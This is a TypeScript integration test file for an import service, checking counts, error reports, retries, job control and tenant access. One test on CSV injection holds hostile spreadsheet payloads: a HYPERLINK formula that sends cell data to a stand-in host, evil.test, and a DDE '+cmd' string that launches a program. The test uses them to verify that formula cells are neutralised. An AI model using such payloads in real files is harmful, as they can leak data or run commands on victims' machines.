/** Bulk import jobs over HTTP against the real stack (API, imports worker, PostgreSQL, MinIO, Temporal, SMTP). */
import { call, createMemberUser, createOrg, dbQuery, expectProblem, mailsFor, uniq, waitForMail, type OrgFixture } from './support/helpers';
import { counts, errorsOf, getJob, productCount, runFile, runJson, submitFile, submitJson, waitJob } from './support/import-helpers';
import { ensurePriceTier, pathParamFixtures } from './support/matrix-fixtures';

let org: OrgFixture;
beforeAll(async () => {
  org = await createOrg();
  await ensurePriceTier(org, 'Retail', 'USD');
  await ensurePriceTier(org, 'Wholesale', 'USD');
});
const A = () => ({ base: org.base, token: org.adminToken });

describe('products', () => {
  test('when products with prices are imported as JSON and then again, then they are created once and the second run counts them unchanged and writes nothing', async () => {
    const p = uniq('P');
    const records = [
      { sku: `${p}-1`, name: 'One', category: `${p} Cat`, prices: [{ tier: 'Retail', price: 10.5 }, { tier: 'Retail', price: 9.25, atQuantity: 10 }], productAttributes: { color: 'red' } },
      { sku: `${p}-2`, name: 'Two', weight: 1.5, prices: [{ tier: 'Wholesale', price: 7 }] },
      { sku: `${p}-3`, name: 'Three', active: false },
    ];
    const first = await runJson(org, { kind: 'products', records });
    expect(counts(first)).toEqual({ status: 'Succeeded', totalRecords: 3, processed: 3, created: 3, updated: 0, unchanged: 0, failed: 0 });
    const one = await call('GET', `/api/products/${p}-1`, A());
    expect(one.body.prices).toEqual([
      { tier: 'Retail', price: 10.5, priceFormatted: '$10.50', atQuantity: 1 },
      { tier: 'Retail', price: 9.25, priceFormatted: '$9.25', atQuantity: 10 },
    ]);
    expect(one.body.category).toBe(`${p} Cat`);
    expect(one.body.productAttributes).toEqual({ color: 'red' });
    const before = await dbQuery('select id, updated_at from product where organization_id = $1 order by sku', [org.organizationId]);
    const priceIds = await dbQuery('select id from product_price where organization_id = $1 order by id', [org.organizationId]);

    const second = await runJson(org, { kind: 'products', records });
    expect(counts(second)).toEqual({ status: 'Succeeded', totalRecords: 3, processed: 3, created: 0, updated: 0, unchanged: 3, failed: 0 });
    expect(await dbQuery('select id, updated_at from product where organization_id = $1 order by sku', [org.organizationId])).toEqual(before);
    expect(await dbQuery('select id from product_price where organization_id = $1 order by id', [org.organizationId])).toEqual(priceIds);

    const third = await runJson(org, { kind: 'products', records: [{ ...records[0], name: 'One renamed' }, records[1], { sku: `${p}-2`, prices: [{ tier: 'Wholesale', price: 6 }] }] });
    expect(counts(third)).toEqual({ status: 'Succeeded', totalRecords: 3, processed: 3, created: 0, updated: 2, unchanged: 1, failed: 0 });
    expect((await call('GET', `/api/products/${p}-1`, A())).body.name).toBe('One renamed');
    expect((await call('GET', `/api/products/${p}-2`, A())).body.prices).toEqual([{ tier: 'Wholesale', price: 6, priceFormatted: '$6.00', atQuantity: 1 }]);
  });

  test('when a CSV has good and bad rows, then the good ones land and the bad ones are reported with record number, key and field, also as CSV', async () => {
    const p = uniq('C');
    const csv = [
      'sku,name,minimumOrderQuantity,price:Retail,price:Retail@10,attr:size,description',
      `${p}-1,Good one,2,12.00,11.50,XL,"A ""quoted"", multi-word description"`,
      `${p}-2,Bad moq,0,5,,,`,
      `${p}-3,,,,,,`,
      `${p}-4,Good two,,3.10,,,`,
    ].join('\r\n');
    const job = await runFile(org, { kind: 'products' }, 'products.csv', `\uFEFF${csv}`);
    expect(counts(job)).toEqual({ status: 'SucceededWithErrors', totalRecords: 4, processed: 4, created: 2, updated: 0, unchanged: 0, failed: 2 });
    const report = await errorsOf(org, job.jobId);
    expect(report.TotalCount).toBe(2);
    expect(report.Data).toEqual([
      { record: 2, key: `${p}-2`, field: 'minimumOrderQuantity', message: 'minimumOrderQuantity must be at least 1.' },
      { record: 3, key: `${p}-3`, field: 'name', message: 'name is required when creating a product.' },
    ]);
    const good = await call('GET', `/api/products/${p}-1`, A());
    expect(good.body.minimumOrderQuantity).toBe(2);
    expect(good.body.description).toBe('A "quoted", multi-word description');
    expect(good.body.productAttributes).toEqual({ size: 'XL' });
    expect(good.body.prices.map((x: any) => [x.tier, x.price, x.atQuantity])).toEqual([
      ['Retail', 12, 1],
      ['Retail', 11.5, 10],
    ]);
    expect((await call('GET', `/api/products/${p}-2`, A())).status).toBe(404);
    const csvReport = await fetch(`${org.base}/api/imports/${job.jobId}/errors?format=csv`, { headers: { authorization: `Bearer ${org.adminToken}` } });
    expect(csvReport.headers.get('content-type')).toMatch(/^text\/csv/);
    const lines = (await csvReport.text()).trim().split('\r\n');
    expect(lines).toEqual([
      'sku,name,minimumOrderQuantity,price:Retail,price:Retail@10,attr:size,description,error_field,error_message',
      `${p}-2,Bad moq,0,5,,,,minimumOrderQuantity,minimumOrderQuantity must be at least 1.`,
      `${p}-3,,,,,,,name,name is required when creating a product.`,
    ]);
  });

  test('when an imported record carries a spreadsheet formula in a bad field (CSV injection), then the error CSV neutralises every formula cell', async () => {
    const p = uniq('F');
    const formula = '=HYPERLINK("http://evil.test/steal?d="&A1,"Click to fix")';
    const csv = ['sku,name,minimumOrderQuantity,description', `${p}-1,@SUM(A1:A9),"${formula.replace(/"/g, '""')}",+cmd|' /C calc'!A0`].join('\r\n');
    const job = await runFile(org, { kind: 'products' }, 'formulas.csv', csv);
    expect(counts(job)).toMatchObject({ totalRecords: 1, failed: 1 });
    expect((await errorsOf(org, job.jobId)).Data.map((e) => e.field)).toEqual(['minimumOrderQuantity']);
    const res = await fetch(`${org.base}/api/imports/${job.jobId}/errors?format=csv`, { headers: { authorization: `Bearer ${org.adminToken}` } });
    const lines = (await res.text()).trim().split('\r\n');
    expect(lines[1].startsWith(`${p}-1,'@SUM(A1:A9),"'=HYPERLINK(`)).toBe(true);
    expect(lines[1]).toContain(`,'+cmd|' /C calc'!A0,minimumOrderQuantity,`);
    // No cell of the report starts with a formula character.
    const cells = lines[1].match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });

  test('when a job finished more than 30 days ago and the organization submits another, then its error report is gone and a recent one stays', async () => {
    const p = uniq('R');
    const bad = [{ sku: `${p}-1`, name: 'Good' }, { sku: `${p}-2` }];
    const old = await runJson(org, { kind: 'products', records: bad });
    const recent = await runJson(org, { kind: 'products', records: bad.map((r) => ({ ...r, sku: `${r.sku}-b` })) });
    expect((await errorsOf(org, old.jobId)).TotalCount).toBe(1);
    await dbQuery(`update import_job set finished_at = now() - interval '31 days' where id = $1`, [old.jobId]);
    await runJson(org, { kind: 'products', records: [{ sku: `${p}-3`, name: 'Trigger' }] });
    expect(await errorsOf(org, old.jobId)).toEqual({ Data: [], TotalCount: 0, PageNumber: 1, PageSize: 500 });
    expect((await errorsOf(org, recent.jobId)).TotalCount).toBe(1);
  });

  test('when validate mode runs, then the counts tell what apply would do and nothing is written', async () => {
    const p = uniq('V');
    const job = await runJson(org, { kind: 'products', mode: 'validate', records: [{ sku: `${p}-1`, name: 'A' }, { sku: `${p}-2`, name: 'B', prices: [{ tier: 'Nope', price: 1 }] }] });
    expect(counts(job)).toEqual({ status: 'SucceededWithErrors', totalRecords: 2, processed: 2, created: 1, updated: 0, unchanged: 0, failed: 1 });
    expect((await errorsOf(org, job.jobId)).Data).toEqual([{ record: 2, key: `${p}-2`, field: 'prices[0].tier', message: '"Nope" is not a price tier of the organization.' }]);
    expect((await call('GET', `/api/products/${p}-1`, A())).status).toBe(404);
  });

  test('when onError is abort and one record fails, then nothing is written and the job Failed', async () => {
    const p = uniq('X');
    const job = await runJson(org, { kind: 'products', onError: 'abort', records: [{ sku: `${p}-1`, name: 'A' }, { sku: `${p}-2` }, { sku: `${p}-3`, name: 'C' }] });
    expect(counts(job)).toEqual({ status: 'Failed', totalRecords: 3, processed: 3, created: 0, updated: 0, unchanged: 0, failed: 1 });
    expect((await errorsOf(org, job.jobId)).Data.map((e) => [e.record, e.field])).toEqual([[2, 'name']]);
    expect((await call('GET', `/api/products/${p}-1`, A())).status).toBe(404);
    expect((await call('GET', `/api/products/${p}-3`, A())).status).toBe(404);
  });

  test('when onError is abort and every record is good, then all are written', async () => {
    const p = uniq('Y');
    const job = await runJson(org, { kind: 'products', onError: 'abort', records: [{ sku: `${p}-1`, name: 'A' }, { sku: `${p}-2`, name: 'B' }] });
    expect(counts(job)).toEqual({ status: 'Succeeded', totalRecords: 2, processed: 2, created: 2, updated: 0, unchanged: 0, failed: 0 });
  });

  test('when records failed for a missing price tier and the tier is then created, then retry moves them from failed to created', async () => {
    const own = await createOrg();
    await ensurePriceTier(own, 'Retail');
    const job = await runJson(own, {
      kind: 'products',
      records: [
        { sku: 'R-1', name: 'A', prices: [{ tier: 'Retail', price: 1 }] },
        { sku: 'R-2', name: 'B', prices: [{ tier: 'Gold', price: 2 }] },
        { sku: 'R-3', name: 'C', prices: [{ tier: 'Gold', price: 3 }] },
      ],
    });
    expect(counts(job)).toMatchObject({ status: 'SucceededWithErrors', created: 1, failed: 2 });
    const early = await call('POST', `/api/imports/${job.jobId}/retry`, { base: own.base, token: own.adminToken });
    expect(early.status).toBe(202);
    const again = await waitJob(own, job.jobId, (j) => ['SucceededWithErrors', 'Succeeded'].includes(j.status) && j.finishedAt !== null);
    expect(counts(again)).toMatchObject({ status: 'SucceededWithErrors', created: 1, failed: 2 });
    await ensurePriceTier(own, 'Gold');
    const retry = await call('POST', `/api/imports/${job.jobId}/retry`, { base: own.base, token: own.adminToken });
    expect(retry.status).toBe(202);
    const done = await waitJob(own, job.jobId, (j) => j.status === 'Succeeded');
    expect(counts(done)).toEqual({ status: 'Succeeded', totalRecords: 3, processed: 3, created: 3, updated: 0, unchanged: 0, failed: 0 });
    expect((await errorsOf(own, job.jobId)).Data).toEqual([]);
    expect(await productCount(own)).toBe(3);
    const noMore = await call('POST', `/api/imports/${job.jobId}/retry`, { base: own.base, token: own.adminToken });
    expectProblem(noMore, 409);
  });

  test('when a 10,000-record CSV with 3% bad rows is imported twice, then 9,700 records land once and 300 errors are reported both times', async () => {
    const own = await createOrg();
    await ensurePriceTier(own, 'Retail');
    const lines = ['sku,name,quantityOnHand,price:Retail'];
    for (let i = 1; i <= 10_000; i++) lines.push(i % 100 < 3 ? `BULK-${i},Bulk ${i},not-a-number,1.00` : `BULK-${i},Bulk ${i},${i},${(i % 50) + 1}.25`);
    const csv = lines.join('\n');
    const first = await runFile(own, { kind: 'products' }, 'bulk.csv', csv);
    expect(counts(first)).toEqual({ status: 'SucceededWithErrors', totalRecords: 10_000, processed: 10_000, created: 9_700, updated: 0, unchanged: 0, failed: 300 });
    expect(await productCount(own)).toBe(9_700);
    const firstErrors = await errorsOf(own, first.jobId);
    expect(firstErrors.TotalCount).toBe(300);
    expect(firstErrors.Data[0]).toEqual({ record: 1, key: 'BULK-1', field: 'quantityOnHand', message: expect.stringContaining('quantityOnHand') });
    const second = await runFile(own, { kind: 'products' }, 'bulk.csv', csv);
    expect(counts(second)).toEqual({ status: 'SucceededWithErrors', totalRecords: 10_000, processed: 10_000, created: 0, updated: 0, unchanged: 9_700, failed: 300 });
    expect((await errorsOf(own, second.jobId)).TotalCount).toBe(300);
    expect(await productCount(own)).toBe(9_700);
    expect((await dbQuery<{ n: number }>('select count(*)::int as n from product_price where organization_id = $1', [own.organizationId]))[0].n).toBe(9_700);
  }, 180_000);
});

describe('prices and customers', () => {
  test('when prices are imported for existing and unknown skus, then existing products get exactly the given prices and unknown skus are reported', async () => {
    const p = uniq('PR');
    await runJson(org, { kind: 'products', records: [{ sku: `${p}-1`, name: 'A', prices: [{ tier: 'Retail', price: 5 }] }] });
    const csv = `sku,price:Retail,price:Wholesale@5\n${p}-1,4.50,4.00\n${p}-404,1,1\n`;
    const job = await runFile(org, { kind: 'prices' }, 'prices.csv', csv);
    expect(counts(job)).toEqual({ status: 'SucceededWithErrors', totalRecords: 2, processed: 2, created: 0, updated: 1, unchanged: 0, failed: 1 });
    expect((await errorsOf(org, job.jobId)).Data).toEqual([{ record: 2, key: `${p}-404`, field: 'sku', message: 'Product not found.' }]);
    expect((await call('GET', `/api/products/${p}-1`, A())).body.prices.map((x: any) => [x.tier, x.price, x.atQuantity])).toEqual([
      ['Retail', 4.5, 1],
      ['Wholesale', 4, 5],
    ]);
    const again = await runFile(org, { kind: 'prices' }, 'prices.csv', csv);
    expect(counts(again)).toMatchObject({ updated: 0, unchanged: 1, failed: 1 });
  });

  test('when customers with nested addresses are imported from CSV, then they are created, re-import is unchanged, and a changed row updates', async () => {
    const c = uniq('CU');
    const header = 'customerNumber,companyName,companyEmail,pricing,addresses.0.addressType,addresses.0.city,addresses.0.country,attr:segment';
    const rows = [`${c}-1,Acme,acme@example.com,retail,Billing,Springfield,US,gold`, `${c}-2,Beta,beta@example.com,Wholesale,Shipping,Shelbyville,US,`, `${c}-3,Bad,not-an-email,Retail,,,,`];
    const csv = [header, ...rows].join('\n');
    const job = await runFile(org, { kind: 'customers' }, 'customers.csv', csv);
    expect(counts(job)).toEqual({ status: 'SucceededWithErrors', totalRecords: 3, processed: 3, created: 2, updated: 0, unchanged: 0, failed: 1 });
    expect((await errorsOf(org, job.jobId)).Data).toEqual([{ record: 3, key: `${c}-3`, field: 'companyEmail', message: 'companyEmail must be a valid e-mail address.' }]);
    const acme = await call('GET', `/api/customers/${c}-1`, A());
    expect(acme.body).toMatchObject({ companyName: 'Acme', pricing: 'Retail', customerAttributes: { segment: 'gold' } });
    expect(acme.body.addresses).toEqual([
      { externalId: null, line1: null, line2: null, city: 'Springfield', state: null, postalCode: null, country: 'US', addressType: 'Billing', phone: null, isPrimary: false },
    ]);
    const again = await runFile(org, { kind: 'customers' }, 'customers.csv', csv);
    expect(counts(again)).toMatchObject({ created: 0, updated: 0, unchanged: 2, failed: 1 });
    const changed = await runFile(org, { kind: 'customers' }, 'customers.csv', [header, rows[0].replace('Springfield', 'Capital City'), rows[1]].join('\n'));
    expect(counts(changed)).toEqual({ status: 'Succeeded', totalRecords: 2, processed: 2, created: 0, updated: 1, unchanged: 1, failed: 0 });
    expect((await call('GET', `/api/customers/${c}-1`, A())).body.addresses[0].city).toBe('Capital City');
  });

  test('when user-customer links are imported, then members are linked, unknown users and customers are reported, and re-import is unchanged', async () => {
    const c1 = await pathParamFixtures.customerNumber(org);
    const c2 = await pathParamFixtures.customerNumber(org);
    const u1 = await createMemberUser(org);
    const stranger = '00000000-0000-4000-8000-000000000001';
    const job = await runJson(org, {
      kind: 'user-customer-links',
      records: [
        { UserId: u1.userId, CustomerNumber: c1 },
        { UserId: u1.userId, CustomerNumber: 'NOPE-404' },
        { UserId: stranger, CustomerNumber: c1 },
      ],
    });
    expect(counts(job)).toEqual({ status: 'SucceededWithErrors', totalRecords: 3, processed: 3, created: 1, updated: 0, unchanged: 0, failed: 2 });
    expect((await errorsOf(org, job.jobId)).Data).toEqual([
      { record: 2, key: `${u1.userId}:NOPE-404`, field: 'CustomerNumber', message: 'No customer with this number in the organization.' },
      { record: 3, key: `${stranger}:${c1}`, field: 'UserId', message: 'The user is not a member of this organization.' },
    ]);
    const again = await runJson(org, { kind: 'user-customer-links', records: [{ UserId: u1.userId, CustomerNumber: c1 }] });
    expect(counts(again)).toMatchObject({ created: 0, updated: 0, unchanged: 1, failed: 0 });
    const moved = await runJson(org, { kind: 'user-customer-links', records: [{ UserId: u1.userId, CustomerNumber: c2 }] });
    expect(counts(moved)).toMatchObject({ created: 0, updated: 1, unchanged: 0, failed: 0 });
    expect((await call('GET', `/api/users/customer-association?UserId=${u1.userId}`, A())).body.CustomerNumber).toBe(c2);
  });

  test('when a job finishes, then the submitter gets an e-mail with the counts and the report link', async () => {
    const own = await createOrg();
    const job = await runJson(own, { kind: 'products', records: [{ sku: 'M-1', name: 'Mail' }, { sku: 'M-2' }] });
    const mail = await waitForMail(own.adminEmail, (m) => m.subject.includes('Import products'));
    expect(mail.subject).toBe('Import products: SucceededWithErrors');
    expect(mail.text).toContain('Created 1, updated 0, unchanged 0, failed 1');
    expect(mail.text).toContain(`/api/imports/${job.jobId}`);
  });
});

describe('job control and access', () => {
  test('when a large job is paused, then it stops between chunks; resumed, it finishes; a cancelled job keeps what was written and cannot resume', async () => {
    const own = await createOrg();
    const lines = ['sku,name'];
    for (let i = 1; i <= 30_000; i++) lines.push(`PZ-${i},Pause ${i}`);
    const res = await submitFile(own, { kind: 'products' }, 'big.csv', lines.join('\n'));
    expect(res.status).toBe(202);
    expect(res.headers.get('location')).toBe(`/api/imports/${res.body.jobId}`);
    const id = res.body.jobId;
    await waitJob(own, id, (j) => j.processed >= 1000);
    const paused = await call('POST', `/api/imports/${id}/pause`, { base: own.base, token: own.adminToken });
    expect(paused.status).toBe(200);
    expect(paused.body.status).toBe('Paused');
    await new Promise((r) => setTimeout(r, 3000));
    const p1 = (await getJob(own, id)).processed;
    await new Promise((r) => setTimeout(r, 2000));
    const held = await getJob(own, id);
    expect(held.status).toBe('Paused');
    expect(held.processed).toBe(p1);
    expect(p1).toBeLessThan(30_000);
    expectProblem(await call('POST', `/api/imports/${id}/pause`, { base: own.base, token: own.adminToken }), 409);
    const resumed = await call('POST', `/api/imports/${id}/resume`, { base: own.base, token: own.adminToken });
    expect(resumed.body.status).toBe('Running');
    const done = await waitJob(own, id);
    expect(counts(done)).toEqual({ status: 'Succeeded', totalRecords: 30_000, processed: 30_000, created: 30_000, updated: 0, unchanged: 0, failed: 0 });

    const lines2 = ['sku,name'];
    for (let i = 1; i <= 30_000; i++) lines2.push(`CX-${i},Cancel ${i}`);
    const res2 = await submitFile(own, { kind: 'products' }, 'big2.csv', lines2.join('\n'));
    await waitJob(own, res2.body.jobId, (j) => j.processed >= 1000);
    const cancelled = await call('POST', `/api/imports/${res2.body.jobId}/cancel`, { base: own.base, token: own.adminToken });
    expect(cancelled.body.status).toBe('Cancelled');
    await new Promise((r) => setTimeout(r, 3000));
    const after = await getJob(own, res2.body.jobId);
    expect(after.status).toBe('Cancelled');
    expect(after.processed).toBeLessThan(30_000);
    expect((await dbQuery<{ n: number }>("select count(*)::int as n from product where organization_id = $1 and sku like 'CX-%'", [own.organizationId]))[0].n).toBe(after.created);
    expectProblem(await call('POST', `/api/imports/${res2.body.jobId}/resume`, { base: own.base, token: own.adminToken }), 409);
  }, 240_000);

  test("when another organization reads or controls a job, then 404; when a non-admin submits or reads, then 403; bad input is a 400 naming the fields", async () => {
    const res = await submitJson(org, { kind: 'products', records: [{ sku: uniq('Z'), name: 'Z' }] });
    const id = res.body.jobId;
    const other = await createOrg();
    for (const [m, path] of [
      ['GET', `/api/imports/${id}`],
      ['GET', `/api/imports/${id}/errors`],
      ['POST', `/api/imports/${id}/pause`],
      ['POST', `/api/imports/${id}/resume`],
      ['POST', `/api/imports/${id}/cancel`],
      ['POST', `/api/imports/${id}/retry`],
    ] as const)
      expectProblem(await call(m, path, { base: other.base, token: other.adminToken }), 404);
    expect((await call('GET', '/api/imports', { base: other.base, token: other.adminToken })).body.Data.map((j: any) => j.jobId)).not.toContain(id);
    const member = await createMemberUser(org);
    expectProblem(await submitJson(org, { kind: 'products', records: [] }, member.token), 403);
    expectProblem(await call('GET', `/api/imports/${id}`, { base: org.base, token: member.token }), 403);
    expectProblem(await call('GET', '/api/imports', { base: org.base, token: member.token }), 403);
    const bad = await submitJson(org, { kind: 'widgets', mode: 'later', onError: 'explode', records: [] });
    expectProblem(bad, 400);
    expect(Object.keys(bad.body.errors).sort()).toEqual(['kind', 'mode', 'onError']);
    expectProblem(await submitJson(org, { kind: 'products' }), 400);
    const list = await call('GET', '/api/imports?kind=products&pageSize=2', A());
    expect(list.status).toBe(200);
    expect(list.body).toEqual({ Data: expect.any(Array), TotalCount: expect.any(Number), PageNumber: 1, PageSize: 2 });
    expect(list.body.Data).toHaveLength(2);
    expectProblem(await call('GET', '/api/imports?status=Sleeping', A()), 400);
    await waitJob(org, id);
    expect((await mailsFor(org.adminEmail)).length).toBeGreaterThan(0);
  });
});
